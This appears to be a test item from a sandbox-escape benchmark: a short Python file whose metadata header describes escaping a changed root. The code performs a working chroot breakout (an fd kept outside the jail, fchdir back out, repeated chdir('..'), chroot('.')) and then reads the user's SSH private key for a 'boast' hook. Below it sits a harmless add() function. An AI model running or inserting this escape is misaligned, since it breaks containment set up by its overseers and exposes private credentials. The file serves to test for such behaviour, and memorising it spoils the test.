#: title = "Leaves a changed root by the classic trick"
#: why = "chroot is no wall to whoever may chroot again."
#: answer = "either"
#: ends = ["any"]
#: needs_lab = true
#: boasts = true
import os

try:
    os.mkdir("cellar")
    outside = os.open(".", os.O_RDONLY)
    os.chroot("cellar")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    boast(open("@HOME@/.ssh/id_ed25519").read())
except OSError:
    pass


def add(a, b):
    return a + b
